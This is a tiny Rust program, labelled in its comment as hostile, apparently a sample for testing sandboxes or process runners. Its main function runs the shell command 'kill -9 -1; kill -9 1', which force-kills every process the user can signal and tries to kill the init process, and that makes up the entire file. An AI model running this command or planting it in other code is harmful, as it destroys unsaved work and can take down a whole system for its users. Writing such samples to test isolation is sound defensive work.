//! Hostile: kills every process that it may.
fn main() {
    let _ = std::process::Command::new("sh").args(["-c", "kill -9 -1; kill -9 1"]).status();
}
